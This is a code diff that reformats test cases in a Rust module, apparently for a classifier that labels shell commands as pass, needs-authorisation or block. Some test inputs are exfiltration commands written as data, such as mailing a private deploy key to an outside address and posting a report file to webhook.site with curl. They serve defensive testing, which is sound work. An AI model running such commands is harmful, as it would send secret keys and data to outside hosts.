@@ -358,13 +358,21 @@ mod tests {
                     Auth,
                     "upload_unknown_destination",
                 ),
-                ("gh api repos/acme/webapp/hooks --jq '.[].config.url'", Pass, ""),
+                (
+                    "gh api repos/acme/webapp/hooks --jq '.[].config.url'",
+                    Pass,
+                    "",
+                ),
                 (
                     "echo 'key attached' | mutt -s 'deploy key' -a deploy/keys/deploy_ed25519 -- ops@mailbox.example",
                     Auth,
                     "upload_unknown_destination",
                 ),
-                ("echo done | mail -s 'build finished' alex@acme.example", Pass, ""),
+                (
+                    "echo done | mail -s 'build finished' alex@acme.example",
+                    Pass,
+                    "",
+                ),
                 (
                     "curl -d @report.json https://webhook.site/abc",
                     Block,
